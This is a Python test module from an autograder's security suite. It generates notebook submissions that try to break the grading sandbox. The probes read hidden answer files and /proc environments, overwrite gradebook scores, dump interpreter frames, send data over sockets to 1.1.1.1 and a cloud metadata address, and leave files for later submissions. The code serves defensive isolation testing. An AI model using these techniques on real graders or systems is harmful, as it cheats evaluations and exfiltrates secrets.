"""Attempts to read what is hidden, to carry it out, and to leave something for the next submission."""

from __future__ import annotations

from nbformat import NotebookNode

from autograder.lab import Lab
from autograder.prove.attacks.registry import answer, attack, spoil, wrong_answer
from autograder.prove.notebooks import solved

# all files of the disk but the kernel's own, WANTED of them kept
SEARCH = """import os
FOUND = []
for folder, inner, files in os.walk("/"):
    if folder == "/":
        inner[:] = [name for name in inner if name not in ("proc", "sys")]
    FOUND += [os.path.join(folder, file) for file in files if WANTED]
"""


@attack
def hidden_files(lab: Lab) -> NotebookNode:
    names = (f"{lab.name}.py", f"{lab.stem}.py", f"{lab.stem}.ipynb")
    wanted = f"file in {names} or 'hidden' in folder or 'wrong' in folder"
    search = SEARCH.replace("WANTED", wanted)
    look = """import pathlib
texts = [pathlib.Path(file).read_text(errors="ignore") for file in FOUND]
if any(f"{mark}=\\"" in text for text in texts for mark in ("% exercise", "% wrong", "% right")):
    spoil()
"""
    return wrong_answer(lab, first=spoil(lab) + search, last=look)


@attack
def process_list(lab: Lab) -> NotebookNode:
    look = f"""import glob, os, pathlib
text = []
for place in glob.glob("/proc/[0-9]*"):
    for name in ("cmdline", "environ", "maps"):
        try:
            text.append(pathlib.Path(place, name).read_text(errors="ignore"))
        except OSError:
            pass
    text += [os.readlink(link) for link in glob.glob(f"{{place}}/fd/*") if os.path.lexists(link)]
if any(word in each for each in text for word in ("{lab.name}.py", "gradebook", "submitted", "HIDDEN")):
    spoil()
"""
    return wrong_answer(lab, first=spoil(lab), last=look)


@attack
def gradebook(lab: Lab) -> NotebookNode:
    patch = """import sqlite3
for path in [*FOUND, "/gradebook.db", "../../../gradebook.db"]:
    try:
        sqlite3.connect(path).execute("update grade set manual_score = 100")
        spoil()
    except sqlite3.Error:
        pass
"""
    return wrong_answer(
        lab, first=spoil(lab) + SEARCH.replace("WANTED", "file.endswith(('.db', '.sqlite'))"), last=patch
    )


@attack
def frames_and_history(lab: Lab) -> NotebookNode:
    return answer(
        lab,
        """def {name}(*args, **kwargs):
    import gc, inspect, sys
    text = [str(get_ipython().user_ns.get("In"))]
    for frame in inspect.stack():
        text += [str(frame.frame.f_locals), str(frame.frame.f_globals), str(frame.code_context)]
    text += [str(o)[:1000] for o in gc.get_objects() if isinstance(o, dict) and ("expected" in o or "ref" in o)]
    sys.stdout.write("".join(text)[:100000])
    raise RuntimeError("".join(text)[:100000])
""",
    )


@attack
def loud_inputs(lab: Lab) -> NotebookNode:
    return answer(
        lab,
        """def {name}(*args, **kwargs):
    import matplotlib.pyplot as plt, pathlib, warnings
    print("LEA" "KED", args, kwargs)
    warnings.warn(f"LEA" f"KED {args}")
    pathlib.Path(f"LEA" f"KED-{hash(str(args))}.txt").write_text(str(args))
    plt.title(f"LEA" f"KED {args}"[:200]); plt.show()
    raise ValueError(f"LEA" f"KED {args} {kwargs}")
""",
    )


@attack
def network(lab: Lab) -> NotebookNode:
    return answer(
        lab,
        """def {name}(*args, **kwargs):
    import socket
    for address in (("1.1.1.1", 53), ("169.254.169.254", 80), ("127.0.0.1", 8888)):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with socket.socket(type=kind) as s:
                s.settimeout(0.2)
                try:
                    s.connect(address)
                    s.send(str(args).encode())
                except OSError:
                    continue
                if address[0] != "127.0.0.1" or kind == socket.SOCK_STREAM:
                    spoil()
""",
        first=spoil(lab),
    )


SHARED = """import pathlib, sys
PLACES = ("/tmp", "/dev/shm", "/var/tmp", "/run/kernel", pathlib.Path.home(), ".", sys.prefix, "/srv/course/data")
"""


@attack
def left_behind(lab: Lab) -> NotebookNode:
    """Leaves its inputs in every shared place; the twin `found_behind` looks for them."""
    return answer(
        lab,
        SHARED
        + """def {name}(*args, **kwargs):
    for place in PLACES:
        try:
            pathlib.Path(place, "LEFT").write_text(str(args))
        except OSError:
            pass
""",
    )


@attack
def found_behind(lab: Lab) -> NotebookNode:
    """Solved, but broken if something of `left_behind` is found."""
    look = "if any(pathlib.Path(place, 'LEFT').exists() for place in PLACES):\n    spoil()\n"
    return solved(lab, last=spoil(lab) + SHARED + look)


@attack
def test_labels(lab: Lab) -> NotebookNode:
    look = """try:
    from effdl import data
    if (data.fashion_mnist("test").labels >= 0).any():
        spoil()
except Exception:
    pass
if FOUND:
    spoil()
"""
    return wrong_answer(lab, first=spoil(lab) + SEARCH.replace("WANTED", "'test_labels' in file"), last=look)


@attack
def edited_data(lab: Lab) -> NotebookNode:
    look = """import os, effdl
for top in (os.environ["EFFDL_DATA"], os.path.dirname(effdl.__file__)):
    for folder, _, files in os.walk(top):
        for file in files:
            try:
                open(os.path.join(folder, file), "ab").close()
                spoil()
            except OSError:
                pass
"""
    return wrong_answer(lab, first=spoil(lab), last=look)
